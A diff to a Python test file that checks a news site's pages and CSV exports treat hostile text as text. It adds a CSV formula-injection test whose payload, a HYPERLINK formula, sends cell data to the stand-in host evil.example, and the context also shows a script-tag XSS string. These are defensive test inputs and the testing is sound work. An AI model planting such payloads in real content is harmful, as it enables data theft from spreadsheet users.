@@ -1,5 +1,7 @@
 """Hostile text in what the site publishes: headlines, leads, rich text, imported pages, entities, feeds."""
 
+import csv
+import io
 import json
 
 import feedparser
@@ -247,3 +249,14 @@ def test_hostile_entity_descriptions_read_as_text(client):
     )
     markup = page(client, "/en/entities/anna-karpenka/")
     assert '<script>alert(1)</script> "analyst"' in " ".join(texts(markup, "//main"))
+
+
+def test_a_formula_in_a_headline_reaches_spreadsheets_as_text(client):
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    make_article(formula)
+    response = client.get("/en/dashboard/trends.csv", {"start": "2016-12-12", "end": "2016-12-12"})
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    headlines = [row[rows[0].index("headline")] for row in rows[1:]]
+    assert "'" + formula in headlines
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
